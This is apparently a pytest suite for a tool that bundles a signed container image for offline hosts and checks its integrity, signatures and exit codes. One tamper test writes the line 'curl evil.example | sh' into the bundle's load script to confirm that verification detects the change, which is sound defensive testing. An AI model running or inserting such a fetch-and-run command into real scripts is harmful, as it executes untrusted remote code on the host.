"""A folder for hosts without a network: it verifies there, by Vetted and by cosign alone, and Docker loads it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from builder.certify import certificate
from builder.image import oci
from builder.publish import airgap, dotenv
from tests import schemas
from tests.commands import Answer
from tests.conftest import ROOT, TINY
from tests.registry.conftest import Keys, Stack, verify
from tests.unit.conftest import Command
from tests.unit.publish.test_airgap import load


def bundle(command: Command, stack: Stack, keys: Keys, output: Path) -> Answer:
    return command(stack.root, "bundle", TINY, "--image", "--key", str(keys.private), "--output", str(output))


@pytest.fixture
def carried(command: Command, certified: Stack, keys: Keys, tmp_path: Path) -> Path:
    done = bundle(command, certified, keys, tmp_path / "carried")
    assert done.code == 0, done.err
    return tmp_path / "carried"


def test_it_holds_image_statements_signatures_and_key(certified: Stack, carried: Path, keys: Keys) -> None:
    statements = [f"{name}{end}" for name in ("certificate", "provenance", "sbom") for end in (".dsse.json", ".json")]
    files = [path.name for path in ROOT.glob("compose*.yaml")] + ["smoke", "judged", "load", "folder.dsse.json"]
    assert sorted(path.name for path in carried.iterdir()) == sorted([*statements, *files, "cosign.pub", "image"])
    (mounted,) = (carried / "judged" / "certificates").iterdir()
    assert json.loads(mounted.read_text()) == json.loads((carried / "certificate.json").read_text())
    record = json.loads((carried / "judged" / "certificates.json").read_text())
    assert (record["image"], len(record["certificates"])) == (certified.image, 1)
    assert (carried / "cosign.pub").read_text() == keys.public.read_text()
    path = certificate.path(certified.small.project, TINY, "cpu", "docker")
    assert json.loads((carried / "certificate.json").read_text()) == json.loads(path.read_text())
    assert schemas.bill_error((carried / "sbom.json").read_text()) == ""
    assert list(carried.parent.glob(".*")) == []


def test_it_verifies_with_the_network_off(certified: Stack, carried: Path, keys: Keys) -> None:
    off = ["unshare", "--net"] if os.geteuid() == 0 else []
    done = subprocess.run(
        [*off, sys.executable, "-m", "builder", "verify", str(carried / "image"), "--offline", "--key",
         str(keys.public)],
        cwd=certified.root, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.splitlines()[-1] == "verified"


@pytest.mark.parametrize("named", ["carried", "carried/image"])
def test_verify_names_a_file_of_the_folder_that_is_not_as_it_was_signed(
    command: Command, certified: Stack, carried: Path, keys: Keys, named: str
) -> None:
    argv = ("verify", str(carried.parent / named), "--offline", "--key", str(keys.public))
    assert command(certified.root, *argv).code == 0
    (carried / "load").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    (carried / "smoke" / "outcome").mkdir()
    (carried / "smoke" / "outcome" / "__init__.pyc").touch()
    answer = command(certified.root, *argv)
    assert answer.code == 1
    assert "doubt: load was changed" in answer.out
    assert "doubt: smoke/outcome/__init__.pyc was added" in answer.out


def test_it_is_loaded_from_anywhere_and_chosen_for_compose(
    certified: Stack, carried: Path, keys: Keys, tmp_path: Path
) -> None:
    image = f"{certified.built.reference.partition(':')[0]}@{certified.image}"
    done = load(carried, tmp_path / "notes", image)
    assert done.returncode == 0, done.stderr
    assert "./index.json" in (tmp_path / "notes" / "loaded").read_text().splitlines()
    runs = (carried / "runs").stat()
    chosen = dict(line.split("=", 1) for line in (carried / ".env").read_text().splitlines())
    assert chosen == {
        "VETTED_IMAGE": image, "VETTED_STACK": TINY, "VETTED_CERTIFICATES": "./judged",
        "VETTED_USER": f"{runs.st_uid}:{runs.st_gid}", "COMPOSE_FILE": "compose.yaml",
        "VETTED_CACHE": "./.huggingface",
        "VETTED_MEMORY": dotenv.limits()["VETTED_MEMORY"],
    }  # fmt: skip
    assert runs.st_uid != 0
    assert airgap.check(carried, keys.public, tmp_path) == []


def test_another_key_does_not_verify_it(command: Command, certified: Stack, carried: Path, other_keys: Keys) -> None:
    assert verify(command, certified, str(carried / "image"), other_keys, "--offline").code == 1


def test_oras_finds_what_is_attached(certified: Stack, carried: Path) -> None:
    argv = ["oras", "discover", "--oci-layout", "--format", "json", f"{carried / 'image'}@{certified.image}"]
    discovered = json.loads(subprocess.run(argv, check=True, capture_output=True, text=True).stdout)
    assert len(discovered["manifests"]) == 1


def test_a_folder_that_holds_something_ends_with_6(
    command: Command, certified: Stack, keys: Keys, tmp_path: Path
) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "file").touch()
    done = bundle(command, certified, keys, tmp_path / "mine")
    assert done.code == 6
    assert "is not an empty folder" in done.err


def test_without_a_certificate_nothing_is_written(command: Command, built: Stack, keys: Keys, tmp_path: Path) -> None:
    done = bundle(command, built, keys, tmp_path / "carried")
    assert done.code == 1
    assert "has no valid certificate" in done.err
    assert not (tmp_path / "carried").exists()


def test_a_damaged_image_is_not_carried(command: Command, certified: Stack, keys: Keys, tmp_path: Path) -> None:
    config = oci.blob(certified.built.image.layout, certified.built.image.layers[0].digest)
    data = config.read_bytes()
    config.write_bytes(data + b"\0")
    done = bundle(command, certified, keys, tmp_path / "carried")
    assert done.code in (1, 3)
    assert not (tmp_path / "carried").exists()
    assert [path.name for path in tmp_path.iterdir() if "partial" in path.name] == []


@pytest.mark.parametrize(
    "options", [["--image"], ["--key", "cosign.key"], ["--image", "--key", "cosign.key", "--python", "3.12"]]
)
def test_options_that_do_not_go_together_end_with_2(command: Command, certified: Stack, options: list[str]) -> None:
    done = command(certified.root, "bundle", TINY, "--output", "x", *options)
    assert done.code == 2
    assert "--image goes with --key" in done.err
